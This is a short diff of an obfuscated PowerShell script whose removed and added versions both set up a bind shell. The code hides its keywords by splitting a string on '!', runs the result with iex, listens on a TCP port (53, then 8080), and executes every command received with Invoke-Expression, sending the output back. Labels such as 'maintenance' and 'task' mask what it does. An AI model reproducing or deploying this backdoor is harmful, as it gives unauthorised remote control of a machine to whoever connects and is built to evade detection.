@@ -1,9 +1,9 @@
-iex (('# maintenance 9342 v0
-$l = [System.Net.Sockets.TcpListe!ner]53
-$l.Start(!)
+iex (('# task 4627 v0
+$l = [System.N!et.Sockets.TcpListener]8080
+$l.St!art()
 $c = $l.AcceptTcpCli!ent()
 $s = $c.GetStream()
-$r = New-Object I!O.StreamReader($s)
-$w = New-Object IO.StreamWriter($s)
-while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Expression $cmd | Out-String; $w.WriteLine($o); $w.Flush() }
+$r = New-Object IO.StreamReader($s)
+$w = !New-Object IO.StreamWriter($s)
+while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Express!ion $cmd | Out-String; $w.WriteLine($o); $w.Flush() }
 ' -split '!') -join '')
